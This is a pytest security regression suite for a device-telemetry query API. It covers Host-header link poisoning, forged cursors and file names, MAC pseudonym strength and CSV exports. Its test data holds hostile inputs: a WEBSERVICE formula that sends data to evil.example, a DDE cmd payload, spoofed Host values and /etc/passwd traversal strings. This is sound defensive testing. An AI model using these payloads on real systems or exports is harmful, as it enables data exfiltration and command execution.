"""Attacks on the query API, over a real socket: each did what it must not before its mend."""

from __future__ import annotations

import base64
import csv
import hashlib
import io
import random
import time
from collections.abc import Iterator
from typing import NamedTuple

import httpx
import hypothesis
import msgspec
import pytest
import table_rows
from api_server import client_of, serve
from clickhouse_connect.driver.client import Client
from conftest import running_broker
from databases import migrated, settings_of
from gateways import CLIENT_EVENTS, GatewayProcess, prepare_topics, running_gateway
from hypothesis import given, strategies
from waiting import await_

import builders
from tidegate import keyfile, pseudonyms
from tidegate.contracts import csv_cells
from tidegate.contracts.position import Position, parse_id
from tidegate.local.child import free_port
from tidegate.local.clickhouse import ClickHouseServer
from tidegate.settings import Settings
from tidegate.tokens import Role, TokenFile

EVENTS = "/V5/devices/clientevents/{mac}/0/2"
DEVICE_LOGS = "/api/v1/inventory_device_log/"


class Api(NamedTuple):
    settings: Settings
    store: Client
    tokens: dict[str, str]
    client: httpx.Client

    def get(self, path: str, *, role: str = "viewer", **request: object) -> httpx.Response:
        headers = {"authorization": f"Bearer {self.tokens[role]}"} | dict(request.pop("headers", {}))  # type: ignore[call-overload]
        return self.client.get(path, headers=headers, **request)  # type: ignore[arg-type]


@pytest.fixture(scope="module")
def api(clickhouse: ClickHouseServer, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Api]:
    settings = settings_of(
        clickhouse,
        data_dir=str(tmp_path_factory.mktemp("api")),
        api_listen=f"127.0.0.1:{free_port()}",
        kafka_bootstrap=f"127.0.0.1:{free_port()}",
    )
    file = TokenFile(settings.tokens_path)
    tokens = {role.value: file.create(role.value, fleet="demo", role=role) for role in Role}
    tokens["other"] = file.create("other", fleet="other", role=Role.OPERATOR)
    with migrated(settings) as store:
        for number in range(6):
            table_rows.store(store, "device_logs", builders.device_log(), offset=number)
            table_rows.store(store, "client_events", builders.success(), offset=number)
        with serve(settings) as url, httpx.Client(base_url=url, trust_env=False, timeout=60) as client:
            yield Api(settings, store, tokens, client)


HOSTS = [
    "evil.example",
    "127.0.0.1.evil.example",
    "localhost@evil.example",
    "localhost:80@evil.example",
    "127.0.0.1:8081/evil.example/?",
    "localhost.evil.example:80",
    "[::1].evil.example",
    "1270.0.1",
    "localhost:",
]


@pytest.mark.parametrize("host", HOSTS)
def test_links_do_not_lead_where_a_request_says(api: Api, host: str) -> None:
    """`Host: evil.example` came back in `next` and `nextLink`: whoever followed them sent the token there."""
    page = api.get(DEVICE_LOGS + "?limit=2", headers={"host": host})
    if page.status_code == 400:  # refused by the HTTP layer
        return
    following = page.json()["next"]
    assert following.startswith(DEVICE_LOGS + "?") and "evil" not in following
    assert len(api.get(following).json()["results"]) == 2
    events = api.get(EVENTS.format(mac=builders.success()["macAddress"]), headers={"host": host}).json()
    assert events["nextLink"].startswith("/V5/devices/clientevents/") and "evil" not in events["nextLink"]
    file = api.get("/V2/analytics/associationdata/2020-01-01/2029-01-01", headers={"host": host})
    assert file.text.startswith("/V2/analytics/files/"), file.text


@pytest.mark.parametrize("host", ["localhost", "127.0.0.1:8081", "127.1.2.3:9", "[::1]:8081", "LOCALHOST:1"])
def test_links_of_the_own_machine_are_whole(api: Api, host: str) -> None:
    page = api.get(DEVICE_LOGS + "?limit=2", headers={"host": host}).json()
    assert page["next"].startswith(f"http://{host}{DEVICE_LOGS}?")


def test_links_are_those_of_public_url(api: Api) -> None:
    with client_of(api.settings, api.tokens["viewer"], public_url="https://tide.example/") as client:
        page = client.get(DEVICE_LOGS + "?limit=2", headers={"host": "evil.example"}).json()
        assert page["next"].startswith(f"https://tide.example{DEVICE_LOGS}?")


def test_an_id_of_the_future_is_not_found(
    clickhouse: ClickHouseServer, tmp_path_factory: pytest.TempPathFactory
) -> None:
    """Any id of a known epoch was `pending`, made up or another fleet's, to whoever asked."""
    folder = tmp_path_factory.mktemp("future")
    with running_broker("embedded", folder) as broker:
        epoch = prepare_topics(broker.bootstrap)
        with running_gateway(broker.bootstrap, folder) as gateway:
            settings = settings_of(
                clickhouse,
                data_dir=str(folder),
                kafka_bootstrap=broker.bootstrap,
                api_listen=f"127.0.0.1:{free_port()}",
            )
            other = gateway.tokens.create("other", fleet="other", role="operator")
            with migrated(settings) as store:
                store.command(f"INSERT INTO epochs VALUES ('{epoch}', now64(6))")
                with client_of(settings, None) as client:
                    _ask_about(gateway, client, other)


def _ask_about(gateway: GatewayProcess, client: httpx.Client, other: str) -> None:
    def ask(id: str, token: str) -> int:
        answer = client.get(f"/api/v1/events/{id}", headers={"authorization": f"Bearer {token}"})
        return answer.status_code

    answer = gateway.post(CLIENT_EVENTS, [builders.success(), builders.success()])
    first, second = answer.json()["ids"]
    demo, superuser = gateway.token[Role.VIEWER], gateway.token[Role.SUPERUSER]
    for id in (first, second):
        assert [ask(id, token) for token in (demo, superuser, other)] == [200, 200, 404]
    place = parse_id(second)
    assert isinstance(place, Position)
    made_up = [
        Position(place.epoch, place.stream, place.partition, place.offset, place.index + 1),
        Position(place.epoch, place.stream, place.partition, place.offset + 1, 0),
        Position(place.epoch, place.stream, place.partition, 10**15, 0),
        Position(place.epoch, place.stream, place.partition, 10**19 - 1, 0),
        Position(place.epoch, "device_logs", 0, 0, 0),
        Position(place.epoch, place.stream, 4_000_000, 0, 0),
    ]
    for position in made_up:
        assert [ask(position.id(), token) for token in (demo, superuser, other)] == [404] * 3, position
    assert ask(first, demo) == 200


# Formulas in CSV

FORMULAS = [
    '=WEBSERVICE("http://evil.example/"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    '"=1+1',
    "'=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u200b\ufeff=1+1",
    "\u201c=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    "-",
]
HARMLESS = ["net", "", "a=b", "-70", "+49", "-1.5", "1,5", "{}", "[=1]", "gäste 📶", "x\n=1"]


def _csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def _dangerous(cell: str) -> bool:
    """As a spreadsheet sees it; other words than the product's."""
    bare = cell.lstrip(" \t\r\n\"'`\u00a0\u200b\ufeff\u201c")
    number = cell.lstrip("+-").replace(".", "").replace(",", "").isdecimal()
    return (bare[:1] in tuple("=+-@\uff1d\uff0b\uff0d\uff20") and not number) or cell[:1] in tuple("\t\r\n")


@pytest.fixture(scope="module")
def formulas(api: Api) -> None:
    for offset, text in enumerate([*FORMULAS, *HARMLESS], 100):
        event = builders.success(macAddress=FORMULA_MAC, ssid=text, rssi=-70)
        table_rows.store(api.store, "client_events", event, offset=offset)
        log = builders.device_log(
            parent={"id": "formula", "name": text}, old_value=text, new_value="-70", notes=text
        )
        table_rows.store(api.store, "device_logs", log, offset=offset)


FORMULA_MAC = "02:00:00:00:77:01"
CALLS = {
    "connection_logs": (f"/V5/devices/clients/connectionlogs?clientmacaddress={FORMULA_MAC}", "ssid"),
    "client_events": (EVENTS.format(mac=FORMULA_MAC).replace("/2", "/1000") + "?", "ssid"),
    "device_logs": (DEVICE_LOGS + "?parent__id=formula", "device_name"),
    "aps": ("/V5/devices/aps?", "devicename"),
}


@pytest.mark.parametrize("call", [name for name in CALLS if name != "aps"])
def test_no_cell_of_an_export_is_a_formula(api: Api, formulas: None, call: str) -> None:
    """An SSID `=WEBSERVICE("http://…")` came out of `format=csv` as it was, and a spreadsheet ran it."""
    path, column = CALLS[call]
    rows = _csv(api.get(f"{path}&format=csv").text)
    assert len(rows) == len(FORMULAS) + len(HARMLESS)
    assert not [cell for row in rows for cell in row.values() if cell[:1] != "'" and _dangerous(cell)]
    expected = {f"'{text}" for text in FORMULAS} | set(HARMLESS)
    assert {row[column] for row in rows} == expected
    raw = _csv(api.get(f"{path}&format=csv&csv_safe=false").text)
    assert {row[column] for row in raw} == {*FORMULAS, *HARMLESS}
    same = api.get(f"{path}&format=ndjson").text
    assert {msgspec.json.decode(line)[column] for line in same.splitlines()} == {*FORMULAS, *HARMLESS}
    if call == "device_logs":
        assert {row["new_value"] for row in rows} == {"-70"}
    else:
        assert {row["rssi"] for row in rows} <= {"-70", ""}


def test_no_cell_of_an_association_file_is_a_formula(api: Api, formulas: None) -> None:
    """As in exports."""

    def ssids(query: str) -> set[str]:
        uri = api.get(f"/V2/analytics/associationdata/2000-01-01/2100-01-01?{query}").text
        answer = api.get(uri)
        assert answer.status_code == 200, answer.text
        if "JSON" in query:
            return {row["SSID"] for row in answer.json()}
        return {row["SSID"] for row in _csv(answer.text)}

    assert {f"'{text}" for text in FORMULAS} | set(HARMLESS) <= ssids("")
    assert set(FORMULAS).isdisjoint(ssids(""))
    assert {*FORMULAS, *HARMLESS} <= ssids("csv_safe=false")
    assert {*FORMULAS, *HARMLESS} <= ssids("format=JSON")


def test_no_cell_of_the_access_points_is_a_formula(api: Api) -> None:
    """As in exports; this process writes that file itself."""
    event = builders.success(associatedAPName="=1+1", bssid="02:11:74:00:77:01")
    table_rows.store(api.store, "client_events", event, offset=400)
    path = "/V5/devices/aps?format=csv"
    assert "'=1+1" in {row["devicename"] for row in _csv(api.get(path, role="operator").text)}
    raw = _csv(api.get(path + "&csv_safe=false", role="operator").text)
    assert "=1+1" in {row["devicename"] for row in raw}


@given(text=strategies.text(max_size=6) | strategies.text("=+-@\t\r\n\"' \uff1d1a", max_size=5))
@hypothesis.settings(max_examples=2000)
def test_no_text_is_left_a_formula(text: str) -> None:
    safe = csv_cells.safe(text)
    assert safe in (text, "'" + text)
    assert safe[:1] == "'" or not _dangerous(safe)


def test_clickhouse_and_this_process_see_the_same_formulas(api: Api) -> None:
    picked = random.Random(12)
    signs = "=+-@\t\r\n\"'` \x00\x7f\u00a0\u200b\u2018\u2028\u3000\ufeff\uff1d\uff0b\ufe63ab1.,0é"
    texts = ["".join(picked.choices(signs, k=picked.randrange(7))) for _ in range(5000)] + FORMULAS + HARMLESS
    rows = api.store.query(
        f"SELECT {csv_cells.safe_expression('text')} FROM"
        " (SELECT arrayJoin({texts:Array(String)}) AS text)",
        parameters={"texts": texts, **csv_cells.PARAMETERS},
    ).result_rows
    assert [row[0] for row in rows] == [csv_cells.safe(text) for text in texts]


# Pseudonyms


def test_a_pseudonym_tells_no_mac(api: Api) -> None:
    """`tohashmac` was SHA-256 of fleet and MAC: of a known vendor's 16 million, found within seconds."""
    macs = [f"02:00:00:00:99:{number:02x}" for number in range(40)]
    for offset, mac in enumerate(macs, 500):
        for again in range(2):
            event = builders.success(macAddress=mac, ssid=f"{mac[-2:]}-{again}")
            table_rows.store(api.store, "client_events", event, offset=offset + 1000 * again)
    path = "/V2/analytics/associationdata/2000-01-01/2100-01-01"
    clear = _csv(api.get(api.get(path).text).text)
    hashed = _csv(api.get(api.get(path + "?tohashmac=true").text).text)
    named = {row["SSID"]: row["Client MAC"] for row in hashed if row["SSID"][:-2] in {m[-2:] for m in macs}}
    assert len(hashed) == len(clear) and len(named) == 80
    keys = keyfile.load(api.settings.pseudonym_key_path)
    for mac in macs:
        ours = {named[f"{mac[-2:]}-{again}"] for again in range(2)}
        assert ours == {pseudonyms.of_mac(keys, "demo", mac)}
        assert not ours & {
            hashlib.sha256(f"{before}{mac}".encode()).hexdigest() for before in ("", "demo", "demo\n")
        }
    order = [row["Client MAC"] for row in hashed if row["Client MAC"] in set(named.values())]
    by_mac = [pseudonyms.of_mac(keys, "demo", mac) for mac in macs for _ in range(2)]
    assert sorted(order) == sorted(by_mac) and order != by_mac, "the order of a file tells whose MAC is less"
    assert "02:00:00:00:99" not in str(hashed)


def test_pseudonyms_of_a_superusers_file_are_those_of_each_fleet(api: Api) -> None:
    event = builders.success(macAddress="02:00:00:00:98:01", ssid="superuser")
    for fleet, offset in (("demo", 700), ("flotte-ö", 701)):
        table_rows.store(api.store, "client_events", event, offset=offset, fleet=fleet)
    path = "/V2/analytics/associationdata/2000-01-01/2100-01-01?tohashmac=true&format=JSON"
    rows = api.get(api.get(path, role="superuser").text, role="superuser").json()
    keys = keyfile.load(api.settings.pseudonym_key_path)
    expected = {pseudonyms.of_mac(keys, fleet, "02:00:00:00:98:01") for fleet in ("demo", "flotte-ö")}
    assert {row["Client MAC"] for row in rows if row["SSID"] == "superuser"} == expected


def test_a_key_file_is_private_and_turns_over(api: Api) -> None:
    """There was no key. A new one makes new pseudonyms; a file named before keeps its own."""
    path = "/V2/analytics/associationdata/2000-01-01/2100-01-01?tohashmac=true"
    named = api.get(path).text
    before = api.get(named).text
    file = api.settings.pseudonym_key_path
    assert file.stat().st_mode & 0o777 == 0o600
    old = keyfile.load(file)
    keys = keyfile.rotate(file)
    assert file.stat().st_mode & 0o777 == 0o600 and keys.keys[old.current] == old.keys[old.current]
    await_(lambda: f"{keys.current}." in api.get(api.get(path).text).text)
    assert api.get(named).text == before and f"{old.current}." in before
    assert api.get(named).text != api.get(api.get(path).text).text


# Cursors and names of files


def test_a_cursor_is_good_for_its_fleet_and_question_alone(api: Api) -> None:
    """Anybody could write one, and one of a question led into any other."""
    following = api.get(DEVICE_LOGS + "?limit=2").json()["next"]
    cursor = httpx.URL(following).params["cursor"]

    def status(role: str = "viewer", cursor: str = cursor, **filters: str) -> int:
        return api.get(DEVICE_LOGS, role=role, params={"cursor": cursor, "limit": "2", **filters}).status_code

    assert status() == 200 and status(role="operator") == 200
    assert status(role="other") == 422
    assert status(role="superuser") == 422
    assert status(action="config_change") == 422
    assert status(datetime__gte="2020-01-01") == 422
    old = base64.urlsafe_b64encode(b'["o",1705314600000000,"x"]').decode().rstrip("=")
    assert status(cursor=old) == 422
    for at in range(0, len(cursor), 7):
        other = "A" if cursor[at] != "A" else "B"
        assert status(cursor=cursor[:at] + other + cursor[at + 1 :]) == 422
    assert status(cursor=cursor + "=") == 422 and status(cursor=cursor[:-1]) == 422


def test_a_name_of_a_file_cannot_be_made_up(api: Api) -> None:
    """It was fleet, times and locations in base64: whoever knew these had the name, for any period."""
    uri = api.get("/V2/analytics/associationdata/2020-01-01/2020-01-02").text
    assert api.get(uri).status_code == 200
    assert api.get(uri, role="other").status_code == 404
    name = uri.rpartition("/")[2].removesuffix(".csv")
    now = time.time_ns() // 1000
    guess = base64.urlsafe_b64encode(msgspec.json.encode(["demo", 0, now, now, False, None]))
    for wrong in (guess.decode().rstrip("="), name[:-2] + ("AA" if name[-2:] != "AA" else "BB"), name + "A"):
        assert api.get(f"/V2/analytics/files/{wrong}.csv").status_code == 404
    for trick in (
        "../../etc/passwd",
        "..%2f..%2fetc%2fpasswd",
        "%2e%2e%2f" + name,
        name + "%00",
    ):
        assert api.get(f"/V2/analytics/files/{trick}.csv").status_code == 404, trick
